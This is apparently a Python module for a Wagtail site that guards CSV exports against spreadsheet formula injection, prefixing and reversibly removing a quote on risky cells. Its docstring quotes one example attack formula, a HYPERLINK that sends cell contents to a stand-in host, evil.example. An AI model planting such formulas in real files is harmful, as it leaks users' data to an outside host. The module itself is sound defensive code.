"""CSV cells that a spreadsheet cannot run as formulas (OWASP's "CSV injection" rule).

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula: a term, a note or a title typed as
``=HYPERLINK("https://evil.example/?"&A1)`` would run on the desk's computer when the export is
opened. Such cells get a leading single quote, which spreadsheets show as text.

So that a glossary exported, edited and imported again comes back unchanged, the rule is
reversible: a value that already begins with quotes before such a character gets one more, and
``restore_cell`` takes exactly one off. XLSX needs none of this: Wagtail writes every cell of
an XLSX export as a string.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralise_cell(value: Any) -> Any:
    """``value`` safe to write into a CSV cell; anything but text is returned as it is."""
    if isinstance(value, str) and value.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def restore_cell(value: str) -> str:
    """The value ``neutralise_cell`` was given, from what it returned (text read from a CSV)."""
    if value.startswith(QUOTE) and value.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return value[1:]
    return value


class SafeCsvExportMixin:
    """For views with Wagtail's ``SpreadsheetExportMixin``: every CSV cell neutralised.

    Put it before the Wagtail view class in the bases. Numbers stay numbers (a negative
    figure is not text and no spreadsheet runs it).
    """

    def preprocess_field_value(self, field: str, value: Any, export_format: str) -> Any:
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == "csv":
            return neutralise_cell(value)
        return value
